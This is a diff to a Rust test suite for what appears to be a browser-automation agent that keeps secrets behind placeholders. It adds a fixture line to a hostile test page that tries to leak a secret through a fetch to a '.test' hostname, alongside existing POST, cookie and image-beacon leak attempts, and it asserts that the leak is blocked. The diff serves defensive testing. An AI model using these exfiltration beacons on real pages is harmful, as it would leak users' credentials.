@@ -35,7 +35,7 @@ use crate::scripted_model::Scripted;
 use crate::server::Server;
 
 /// Its forms differ in addresses, forms, HTML and JSON.
-const VALUE: &str = "hun+er&2\"é<k";
+pub(super) const VALUE: &str = "hun+er&2\"é<k";
 
 /// The forms that no output may have.
 fn forms() -> Vec<String> {
@@ -49,7 +49,7 @@ fn forms() -> Vec<String> {
     own.chain(["hun%2ber".to_owned()]).collect()
 }
 
-fn assert_has_none(what: &str, text: &str) {
+pub(super) fn assert_has_none(what: &str, text: &str) {
     let lower = text.to_lowercase();
     for form in forms() {
         assert!(!lower.contains(&form.to_lowercase()), "{what} has `{form}`: {text}");
@@ -57,7 +57,7 @@ fn assert_has_none(what: &str, text: &str) {
 }
 
 /// All that the files of a folder have, recordings unpacked.
-fn assert_no_file_has_it(folder: &Path) {
+pub(super) fn assert_no_file_has_it(folder: &Path) {
     let mut n_files = 0;
     for entry in fs::read_dir(folder).unwrap().map(Result::unwrap) {
         let path = entry.path();
@@ -122,7 +122,7 @@ impl SecretPage {
             self.asked = effect;
             moved = self.session.answer(self.answer, &deadline).unwrap();
         }
-        self.told.push(format!("{}, {:?}", moved.result, self.asked));
+        self.told.push(format!("{}, {:?}, {:?}", moved.result, self.asked, moved.stopped));
         format!("{}{}", if moved.is_done { "" } else { "no: " }, moved.result)
     }
 
@@ -264,12 +264,12 @@ go.onclick = () => {
             document.body.append(frame);
         }
     }
+    fetch('http://' + forms().at(-1) + '.test/').catch(() => 0);
     fetch(FOREIGN + '/blob', { method: 'POST', mode: 'no-cors', body: new Blob([value()]) })
         .catch(() => 0);
     document.cookie = 'p=' + encodeURIComponent(value());
     new Image().src = '/cookie';
-    alert('It is ' + value());
-    alert('y'.repeat(292) + value());
+    alert('It is ' + value()); alert('y'.repeat(292) + value());
     history.pushState(0, '', '/state/' + encodeURIComponent(value()) + '?p='
         + encodeURIComponent(value()) + '#' + encodeURIComponent(value()));
     new Image().src = '/referer';
@@ -295,6 +295,7 @@ fn a_page_that_gives_the_secret_away_finds_no_way_out() {
     let told = page.go(&show);
     assert!(told.contains("the page said 'It is {{secret:pw}}'"), "{told}");
     assert!(told.contains("never sent to localhost: "), "{told}");
+    assert!(page.told[2].contains("host: \"{{secret:pw}}.test\""), "{}", page.told[2]);
     page.go(&Move::Operate(0, ControlOperation::Wait { text: PLACEHOLDER.to_owned() }));
     let screen = page.session.screen();
     let text = format!("{screen:#?}");
@@ -414,7 +415,7 @@ fn a_model_knows_the_names_and_no_request_has_a_value() {
 }
 
 /// A reply that operates a control.
-fn reply(action: &str, target: &str, value: &str) -> Value {
+pub(super) fn reply(action: &str, target: &str, value: &str) -> Value {
     json!({ "reasoning": "r", "action": action, "target": target, "value": value })
 }
 
